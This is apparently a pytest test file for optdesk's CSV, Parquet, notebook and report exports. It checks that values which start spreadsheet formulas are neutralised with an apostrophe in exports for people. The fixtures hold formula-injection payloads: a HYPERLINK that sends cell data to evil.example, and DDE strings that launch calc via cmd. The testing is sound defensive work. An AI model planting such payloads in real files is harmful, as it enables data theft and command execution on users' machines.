"""CSV exports for people never carry a live formula; the formats for machines stay exact."""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest

from fixtures.store import contact_row, write_contacts_csv
from optdesk import csv_export
from optdesk.cli import main
from optdesk.store import Store

GROUP = "g1"
LINK = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
# a value for every character OWASP names as a formula start, and harmless ones
HOSTILE = {"first_name": LINK, "last_name": "", "outlet": "+cmd|' /C calc'!A0",
           "title": "@SUM(1+1)*cmd|' /C calc'!A0", "country": "-2+3", "language": "+fr"}


def hostile_store(path) -> Store:
    store = Store(path)
    store.import_contacts(write_contacts_csv(path.parent / "c.csv", [
        contact_row(1, "=a@x.example", **HOSTILE, lists="=1+2;Press"),
        contact_row(2, "plain@x.example", first_name="Ann", last_name="Plain"),
        contact_row(2, "-b@x.example", first_name="Ann", last_name="Plain"),
    ]), GROUP)
    store.opt_out(1, GROUP, source="manual", actor="@ana", reason="\rcarriage")
    store.opt_out(2, GROUP, source="manual", actor="ana", reason="\tnote")
    store.release()
    return store


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_no_live_formula(text: str) -> None:
    for cell in cells(text):
        assert not cell.startswith(csv_export.FORMULA_START), cell


@pytest.mark.parametrize("value, safe", [
    (LINK, "'" + LINK), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("plain", "plain"), (" =x", " =x"), ("'quoted", "'quoted"), ("", ""),
])
def test_neutralise(value, safe):
    assert csv_export.neutralise(value) == safe
    frame = pl.DataFrame({"text": [value, None], "number": [-5, 2]})
    out = csv_export.for_people(frame)
    assert out["text"].to_list() == [safe, None] and out["number"].to_list() == [-5, 2]


def test_export_opted_out_csv_to_stdout_and_file(tmp_path, capsys):
    db = str(hostile_store(tmp_path / "s.duckdb").path)
    assert main(["--db", db, "export", "opted-out", "--data-group", GROUP]) == 0
    text = capsys.readouterr().out
    assert_no_live_formula(text)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    hostile = next(r for r in rows if r["contact_id"] == "1")
    assert hostile["name"] == "'" + LINK and hostile["outlet"] == "'" + HOSTILE["outlet"]
    assert hostile["title"] == "'" + HOSTILE["title"] and hostile["country"] == "'-2+3"
    assert hostile["language"] == "'+fr" and hostile["reason"] == "'\rcarriage"
    assert hostile["actor"] == "'@ana"
    assert next(r for r in rows if r["contact_id"] == "2")["reason"] == "'\tnote"
    out = tmp_path / "out.csv"
    assert main(["--db", db, "export", "opted-out", "--data-group", GROUP,
                 "--out", str(out)]) == 0
    assert out.read_bytes().decode("utf-8") == text


def test_parquet_export_keeps_the_values(tmp_path):
    db = str(hostile_store(tmp_path / "s.duckdb").path)
    out = tmp_path / "out.parquet"
    assert main(["--db", db, "export", "opted-out", "--data-group", GROUP, "--format", "parquet",
                 "--out", str(out)]) == 0
    frame = pl.read_parquet(out).filter(pl.col("contact_id") == "1")  # the team's id, text
    assert frame["name"][0] == LINK and frame["reason"][0] == "\rcarriage"


def test_suppressions_csv_for_people_lines_exact_for_machines(tmp_path, capsys):
    db = str(hostile_store(tmp_path / "s.duckdb").path)
    assert main(["--db", db, "suppressions", "--data-group", GROUP, "--format", "csv"]) == 0
    text = capsys.readouterr().out
    assert_no_live_formula(text)
    assert text.splitlines() == ["email,reason", "'-b@x.example,opted_out",
                                 "'=a@x.example,opted_out", "plain@x.example,opted_out"]
    assert main(["--db", db, "suppressions", "--data-group", GROUP]) == 0
    assert capsys.readouterr().out == "-b@x.example\n=a@x.example\nplain@x.example\n"


def test_notebook_export_neutralises(tmp_path):
    from optdesk.views.opted_out import OptedOutView

    store = hostile_store(tmp_path / "s.duckdb")
    view = OptedOutView(store, GROUP, actor="ana", debounce=0, page_size=10,
                        export_dir=tmp_path / "exports")
    view.actions.select_all_button.click()
    view.actions.export_button.click()
    text = view.actions.last_export.read_bytes().decode("utf-8")
    assert_no_live_formula(text)
    assert "'" + LINK.replace('"', '""') in text


def test_report_csvs_neutralise(tmp_path):
    import datetime as dt

    from optdesk.reports.report import Period, build_report, write_report

    store = hostile_store(tmp_path / "s.duckdb")
    today = dt.datetime.now(dt.UTC).date()
    report = build_report(store, GROUP, Period.between(today - dt.timedelta(days=6), today, 7))
    files = write_report(report, tmp_path / "reports")
    lists = files.csv["lists"].read_text(encoding="utf-8")
    assert "'=1+2" in lists
    for path in files.csv.values():
        assert_no_live_formula(path.read_bytes().decode("utf-8"))
    parquet = pl.read_parquet(files.parquet["lists"])
    assert "=1+2" in parquet["name"].to_list()
